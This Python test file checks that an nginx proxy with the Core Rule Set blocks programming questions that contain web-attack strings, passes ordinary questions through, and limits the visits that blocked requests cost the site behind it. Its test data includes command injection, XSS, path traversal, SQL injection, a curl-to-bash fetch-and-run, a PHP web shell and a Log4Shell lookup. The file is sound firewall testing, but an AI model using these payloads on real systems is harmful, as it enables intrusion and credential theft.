"""The Core Rule Set before a site: programming questions that it refuses cost one visit, and nobody beside them."""

from __future__ import annotations

import asyncio
import math
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from asking import ANSWERED, entered, outcome
from software.gated import Gated
from software.nginx import core_rules
from software.packages import Packages, Unavailable

pytestmark = [pytest.mark.real("crs"), pytest.mark.browser]

BLOCKED = "blocked"
REFUSED = (
    "What does os.system('cat /etc/passwd; id') do?",
    "Why is <script>alert(document.cookie)</script> dangerous?",
    "How do I open ../../../../etc/passwd in C?",
    "Explain SELECT name FROM users WHERE id = 1 OR 1=1 UNION SELECT password FROM admins -- to me",
    "What is the difference between `$(curl http://10.0.0.1/x.sh | bash)` and eval?",
    "In PHP, does <?php system($_GET['cmd']); ?> run?",
    "Is ${jndi:ldap://127.0.0.1/a} still a problem?",
)
ORDINARY = (
    "How do I reverse a list in Python?",
    "What is the capital of France?",
    "Write a poem on the sea.",
    "What does a mutex do?",
    "How many bits has a byte?",
)
ROUNDS = 6


@pytest.fixture
def behind(start: Callable[..., Gated]) -> Gated:
    return start("open")


@pytest.fixture
def filtered(packages: Packages, tmp_path: Path, behind: Gated) -> Iterator[str]:
    """The URL of the site behind the filter."""
    try:
        with core_rules(packages, tmp_path / "nginx", behind.host) as url:
            yield url
    except Unavailable as unavailable:
        pytest.skip(f"the Core Rule Set can't be had here: {unavailable}")


async def test_refused_questions_cost_one_visit_and_ordinary_ones_go_on_beside_them(
    filtered: str, behind: Gated
) -> None:
    async with entered(filtered) as runtime:
        await runtime.session("notes")
        for _ in range(ROUNDS):
            questions = [question for pair in zip(REFUSED, ORDINARY * 2, strict=False) for question in pair]
            met = await asyncio.gather(*(outcome(runtime, question) for question in questions))
            told = dict(zip(questions, met, strict=True))
            assert told == {question: BLOCKED if question in REFUSED else ANSWERED for question in questions}
    counts = behind.counts()
    assert counts["pages"] <= 2
    assert counts["calls"] == ROUNDS * len(REFUSED)


async def test_a_site_that_hears_nothing_but_refused_questions_is_visited_ever_more_seldom(
    filtered: str, behind: Gated
) -> None:
    async with entered(filtered) as runtime:
        for _ in range(ROUNDS):
            for question in REFUSED:
                assert await outcome(runtime, question) == BLOCKED
        assert await outcome(runtime, ORDINARY[0]) == ANSWERED
    # Each useless renewal doubles the number of refusals in a row that make another one worth a try.
    assert behind.counts()["pages"] <= 2 + math.log2(ROUNDS * len(REFUSED))
